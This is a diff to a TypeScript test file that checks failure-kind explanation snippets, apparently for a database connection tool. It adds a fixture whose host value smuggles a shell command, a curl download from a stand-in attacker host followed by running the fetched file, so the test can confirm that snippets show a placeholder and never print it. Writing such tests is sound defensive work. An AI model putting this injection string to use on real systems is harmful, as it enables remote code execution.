@@ -34,11 +34,20 @@ const SAMPLE: ExplainInput = {
   conventionName: 'PostgreSQL',
 };
 
+/** A host the URL parser keeps but no snippet may print (security-review row 3): kinds show a placeholder. */
+const CRAFTED = { ...SAMPLE, host: 'a;{curl,-o,x,e.evil.app};{sh,x};b.evil.app' };
+
+/** A Text and the Texts among its arguments (placeholders), each checked like any other. */
+const withNested = (text: Text): Text[] => [
+  text,
+  ...(text.args ?? []).flatMap((arg) => (typeof arg === 'string' ? [] : withNested(arg))),
+];
+
 /** Every Text a kind can produce for the sample, with and without the optional names. */
 async function texts(kind: (typeof KINDS)[number]): Promise<Text[]> {
   const bare = { ...SAMPLE, serviceName: undefined, conventionName: undefined };
   const explain = await loadExplainer(kind.id);
-  return [
+  const all: Text[] = [
     kind.headline(SAMPLE),
     explain.title(SAMPLE),
     explain.summary(SAMPLE),
@@ -52,8 +61,10 @@ async function texts(kind: (typeof KINDS)[number]): Promise<Text[]> {
     ...kind.codes.flatMap((code) => [
       explain.summary({ ...SAMPLE, code }),
       ...(explain.checklist?.({ ...SAMPLE, code }) ?? []),
+      ...(explain.checklist?.({ ...CRAFTED, code }) ?? []),
     ]),
   ];
+  return all.flatMap(withNested);
 }
 
 describe('failure kinds: one module each', async () => {
